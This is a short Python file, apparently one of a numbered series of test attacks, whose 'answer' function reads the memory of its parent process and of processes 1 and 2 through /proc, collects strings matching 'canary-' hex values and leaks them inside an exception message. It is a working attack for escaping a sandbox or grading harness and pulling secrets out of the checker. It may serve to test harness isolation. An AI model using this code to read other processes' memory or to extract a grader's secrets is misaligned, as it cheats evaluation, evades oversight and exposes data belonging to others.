"""Reads the memory of the processes above it (attack 8)."""
import os, re
def answer(*args, **kwargs):
    found = []
    for pid in [os.getppid(), 1, 2]:
        for line in open(f"/proc/{pid}/maps"):
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(low)
                found += re.findall(rb"canary-[0-9a-f]+", memory.read(high - low))
    raise RuntimeError(repr(found))
